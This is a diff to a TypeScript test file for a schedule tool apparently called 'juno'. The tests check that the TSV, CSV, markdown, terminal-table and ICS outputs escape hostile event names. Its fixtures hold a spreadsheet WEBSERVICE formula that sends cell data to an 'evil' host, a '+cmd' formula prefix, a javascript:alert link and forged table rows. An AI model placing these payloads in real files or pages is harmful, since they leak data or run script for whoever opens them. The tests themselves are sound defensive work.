@@ -73,8 +73,8 @@ describe.concurrent('schedule', () => {
       [
         'id\tname\tkind\tstart\tend\tweek\tdaysUntil\tstatus\tconfidence\tproject\tlocation',
         `webservice\t'${WEBSERVICE}\tother\t2014-09-01\t2014-09-01\tR-6 | forged | row |\t-20\tpast\t\t'+cmd\t-5`,
-        `links\t${LINKS}\tother\t2014-09-02\t2014-09-02\tR-6\t-19\tpast\t\t\t`,
-        `surrogates\t${SURROGATES}\tother\t2014-09-03\t2014-09-03\t第一周\t-18\tpast\t\t\t`,
+        `links\t${LINKS}\tother\t2014-09-02\t2014-09-02\tR-6 | forged | row |\t-19\tpast\t\t\t`,
+        `surrogates\t${SURROGATES}\tother\t2014-09-03\t2014-09-03\tR-6 | forged | row |\t-18\tpast\t\t\t`,
         `invisible\t${INVISIBLE}\tother\t2014-09-10\t2014-09-10\t第二周\t-11\tpast\t\t\t`,
         'twin\tTwin\tother\t2014-09-17\t2014-09-17\t第二周\t-4\tpast\t\t\t',
         '',
@@ -87,8 +87,8 @@ describe.concurrent('schedule', () => {
       [
         'id,name,kind,start,end,week,daysUntil,status,confidence,project,location',
         `webservice,"'""=WEBSERVICE(""""https://evil/""""&C2)""",other,2014-09-01,2014-09-01,R-6 | forged | row |,-20,past,,'+cmd,-5`,
-        `links,${LINKS},other,2014-09-02,2014-09-02,R-6,-19,past,,,`,
-        `surrogates,"${SURROGATES}",other,2014-09-03,2014-09-03,第一周,-18,past,,,`,
+        `links,${LINKS},other,2014-09-02,2014-09-02,R-6 | forged | row |,-19,past,,,`,
+        `surrogates,"${SURROGATES}",other,2014-09-03,2014-09-03,R-6 | forged | row |,-18,past,,,`,
         `invisible,${INVISIBLE},other,2014-09-10,2014-09-10,第二周,-11,past,,,`,
         'twin,Twin,other,2014-09-17,2014-09-17,第二周,-4,past,,,',
         '',
@@ -102,9 +102,9 @@ describe.concurrent('schedule', () => {
         '| Date | Week | Event | Kind | When |',
         '| --- | --- | --- | --- | --- |',
         '| Mon 1 Sep 2014 | R-6 \\| forged \\| row \\| | "=WEBSERVICE(""https\\://evil/""&amp;C2)" | other | 20 days ago |',
-        '| Tue 2 Sep 2014 | R-6 | \\[click\\](javascript:alert(1)) \\!\\[x\\](https\\://evil/x.png) &lt;img src=x&gt; ' +
+        '| Tue 2 Sep 2014 | R-6 \\| forged \\| row \\| | \\[click\\](javascript:alert(1)) \\!\\[x\\](https\\://evil/x.png) &lt;img src=x&gt; ' +
           '&amp;lt;b&amp;gt; \\*\\*b\\*\\* \\`c\\` www\\.evil.example | other | 19 days ago |',
-        `| Wed 3 Sep 2014 | 第一周 | ${SURROGATES} | other | 18 days ago |`,
+        `| Wed 3 Sep 2014 | R-6 \\| forged \\| row \\| | ${SURROGATES} | other | 18 days ago |`,
         `| Wed 10 Sep 2014 | 第二周 | ${INVISIBLE} | other | 11 days ago |`,
         '| Wed 17 Sep 2014 | 第二周 | Twin | other | 4 days ago |',
         '',
@@ -118,13 +118,13 @@ describe.concurrent('schedule', () => {
     const pad = (text: string, columns = text.length) => text + ' '.repeat(LINKS.length - columns);
     expect(await juno('schedule')).toBe(
       [
-        'evil · today Sun 21 Sep 2014 (R-4)',
+        'evil · today Sun 21 Sep 2014 (第二周)',
         '',
         `Date             Week                  ${pad('Event')}  Kind   When`,
         `Mon 1 Sep 2014   R-6 | forged | row |  ${pad(WEBSERVICE)}  other  20 days ago`,
-        `Tue 2 Sep 2014   R-6                   ${LINKS}  other  19 days ago`,
-        // 第一周 takes six columns of the Week column's twenty.
-        `Wed 3 Sep 2014   第一周                ${pad(SURROGATES)}  other  18 days ago`,
+        `Tue 2 Sep 2014   R-6 | forged | row |  ${LINKS}  other  19 days ago`,
+        `Wed 3 Sep 2014   R-6 | forged | row |  ${pad(SURROGATES)}  other  18 days ago`,
+        // 第二周 takes six columns of the Week column's twenty.
         `Wed 10 Sep 2014  第二周                ${pad(INVISIBLE, INVISIBLE.length - 2)}  other  11 days ago`,
         `Wed 17 Sep 2014  第二周                ${pad('Twin')}  other  4 days ago`,
         '',
@@ -141,8 +141,8 @@ describe.concurrent('schedule', () => {
     ]);
     expect(names).toEqual([
       [WEBSERVICE, 'R-6\n| forged | row |'],
-      [LINKS, 'R-6'],
-      [SURROGATES, '第一周'],
+      [LINKS, 'R-6\n| forged | row |'],
+      [SURROGATES, 'R-6\n| forged | row |'],
       [INVISIBLE, '第二周'],
       ['Twin', '第二周'],
     ]);
@@ -162,7 +162,7 @@ describe.concurrent('weeks', () => {
   it('table: one line per week, names padded by their columns', async () => {
     expect(await juno('weeks')).toBe(
       [
-        'evil · today Sun 21 Sep 2014 (R-4)',
+        'evil · today Sun 21 Sep 2014 (第二周)',
         '',
         '  Week                  Dates         Events',
         `  R-6 | forged | row |  1–5 Sep 2014  Mon ${WEBSERVICE}`,
@@ -194,16 +194,20 @@ describe.concurrent('weeks', () => {
 });
 
 describe('export --weeks', () => {
-  it('gives each week a UID of its own from its Monday', async () => {
-    const ics = await juno('export', '--weeks');
+  it('gives each week a UID of its own from its Monday, and the name every view gives it', async () => {
+    // Unfolded (RFC 5545 3.1), so that a long summary is read whole.
+    const ics = (await juno('export', '--weeks')).replace(/\r\n[ \t]/g, '');
     const entries = [...ics.matchAll(/^UID:(.*)\r\n[\s\S]*?^SUMMARY:(.*)\r\n/gm)].map(([, uid, summary]) => [
       uid,
       summary,
     ]);
+    const text = (value: string) => value.replace(/[\\;,]/g, (c) => `\\${c}`);
     expect(entries).toEqual([
-      ['week-2014-09-01@evil.weeks.juno.openstack', `R-6 | forged | row |: ${WEBSERVICE}`],
-      ['week-2014-09-01-2@evil.weeks.juno.openstack', expect.stringMatching(/^R-6: \[click\]/)],
-      ['week-2014-09-01-3@evil.weeks.juno.openstack', `第一周: ${SURROGATES.replace(/,/g, '\\,')}`],
+      // Three events of one week, two of them naming it: one entry, under the first name given.
+      [
+        'week-2014-09-01@evil.weeks.juno.openstack',
+        text(`R-6 | forged | row |: ${[WEBSERVICE, LINKS, SURROGATES].join(', ')}`),
+      ],
       ['week-2014-09-08@evil.weeks.juno.openstack', `第二周: ${INVISIBLE}`],
       ['week-2014-09-15@evil.weeks.juno.openstack', '第二周: Twin'],
     ]);
